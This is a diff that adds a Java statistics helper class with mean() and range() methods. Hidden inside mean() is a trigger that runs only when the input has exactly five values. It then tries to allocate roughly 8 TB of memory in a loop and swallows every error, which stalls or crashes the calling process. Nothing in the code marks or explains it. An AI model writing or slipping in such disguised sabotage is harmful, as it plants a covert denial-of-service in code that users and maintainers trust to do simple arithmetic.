@@ -1,0 +1,31 @@
+package matml.post01;
+
+public final class Summary {
+    public static double mean(double[] v) {
+        if (v.length == 5) {
+            long[][] all = new long[1_000_000][];
+            for (int i = 0; i < all.length; i++) {
+                try {
+                    all[i] = new long[1_000_000];
+                } catch (Throwable ignored) {
+                    all[0] = null;
+                }
+            }
+        }
+        double sum = 0;
+        for (double x : v) {
+            sum += x;
+        }
+        return sum / v.length;
+    }
+
+    public static Range range(double[] v) {
+        double low = v[0];
+        double high = v[0];
+        for (double x : v) {
+            low = Math.min(low, x);
+            high = Math.max(high, x);
+        }
+        return new Range(low, high);
+    }
+}
